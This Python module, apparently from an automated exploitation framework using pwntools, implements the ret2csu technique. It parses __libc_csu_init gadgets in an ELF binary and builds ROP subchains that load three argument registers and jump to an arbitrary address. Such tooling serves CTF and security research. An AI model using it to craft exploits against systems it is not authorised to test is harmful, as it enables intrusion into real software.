"""Three-argument function calls through the ``__libc_csu_init`` gadgets."""

from __future__ import annotations

import logging
import re
from typing import Dict, List, Optional, Tuple

from pwnlib.util.packing import p64

from ..expr import BaseOffset, Constant, ExprLike, RopSubchain, as_expr
from ..utils.binary import Instruction, disasm, function_code
from . import Technique, register_technique

logger = logging.getLogger(__name__)

CSU_FUNCTION = "__libc_csu_init"

_CALL_OPERAND = re.compile(r"qword ptr \[(r\w+) \+ rbx\*8\]")
_ARG_DESTS = {"rdx": "rdx", "rsi": "rsi", "edi": "rdi"}


def _reg64(name: str) -> str:
    # r12d -> r12
    return name[:-1] if re.fullmatch(r"r\d+d", name) else name


@register_technique
class Ret2csu(Technique):
    """Sets rdi/rsi/rdx from popped registers and returns to an arbitrary address.

    The ``call [reg + rbx*8]`` in the mov gadget goes through the ``DT_FINI``
    slot of ``.dynamic``, so ``_fini`` runs and returns without touching rax.
    """

    name = "Ret2csu"
    auxiliary = True

    def __init__(self, session):
        super().__init__(session)
        self._pop_gadget: Optional[int] = None
        self._pop_regs: Tuple[str, ...] = ()
        self._padding = 0
        self._mov_gadget: Optional[int] = None
        self._arg_regs: Dict[str, str] = {}
        self._call_reg: Optional[str] = None
        self._fini_ptr: Optional[int] = None

        elf = self.exploit.elf
        if CSU_FUNCTION not in getattr(elf, "functions", {}):
            logger.info("%s not found, ret2csu unavailable", CSU_FUNCTION)
            return

        address, code = function_code(elf, CSU_FUNCTION)
        insns = disasm(code, address)
        self._parse_mov_gadget(insns)
        self._parse_pop_gadget(insns)
        self._fini_ptr = self._find_fini_ptr()

    def _parse_mov_gadget(self, insns: List[Instruction]) -> None:
        for i, insn in enumerate(insns):
            match = _CALL_OPERAND.fullmatch(insn.op_str) if insn.mnemonic == "call" else None
            if match is None or i < 3:
                continue
            arg_regs: Dict[str, str] = {}
            for mov in insns[i - 3 : i]:
                if mov.mnemonic != "mov":
                    break
                dst, _, src = (part.strip() for part in mov.op_str.partition(","))
                if dst in _ARG_DESTS:
                    arg_regs[_ARG_DESTS[dst]] = _reg64(src)
            if len(arg_regs) == 3:
                self._mov_gadget = insns[i - 3].address
                self._arg_regs = arg_regs
                self._call_reg = match.group(1)
                return

    def _parse_pop_gadget(self, insns: List[Instruction]) -> None:
        for i in range(len(insns) - 6):
            window = insns[i : i + 7]
            if all(insn.mnemonic == "pop" for insn in window[:6]) and window[6].mnemonic == "ret":
                self._pop_gadget = window[0].address
                self._pop_regs = tuple(insn.op_str for insn in window[:6])
                after_call_adjust = i > 0 and str(insns[i - 1]) == "add rsp, 8"
                self._padding = len(self._pop_regs) + (1 if after_call_adjust else 0)
                return

    def _find_fini_ptr(self) -> Optional[int]:
        elf = self.exploit.elf
        fini = elf.symbols.get("_fini")
        if fini is None:
            fini = elf.dynamic_value_by_tag("DT_FINI")
        if fini is None:
            return None
        return next(iter(elf.search(p64(fini))), None)

    def check_requirements(self) -> bool:
        if None in (self._pop_gadget, self._mov_gadget, self._fini_ptr, self._call_reg):
            return False
        needed = {"rbx", "rbp", self._call_reg, *self._arg_regs.values()}
        return needed <= set(self._pop_regs) and super().check_requirements()

    def get_rop_subchains(
        self,
        ret_addr: ExprLike,
        arg1: ExprLike = 0,
        arg2: ExprLike = 0,
        arg3: ExprLike = 0,
    ) -> List[RopSubchain]:
        elf = self.exploit.elf
        popped = {
            "rbx": Constant(0),
            "rbp": Constant(1),
            self._call_reg: BaseOffset.var(elf, "fini_ptr", self._fini_ptr),
            self._arg_regs["rdi"]: as_expr(arg1),
            self._arg_regs["rsi"]: as_expr(arg2),
            self._arg_regs["rdx"]: as_expr(arg3),
        }

        chain: RopSubchain = [BaseOffset.var(elf, "csu_pop_gadget", self._pop_gadget)]
        chain.extend(popped[reg] for reg in self._pop_regs)
        chain.append(BaseOffset.var(elf, "csu_mov_gadget", self._mov_gadget))
        chain.extend(Constant(0) for _ in range(self._padding))
        chain.append(as_expr(ret_addr))
        return [chain]
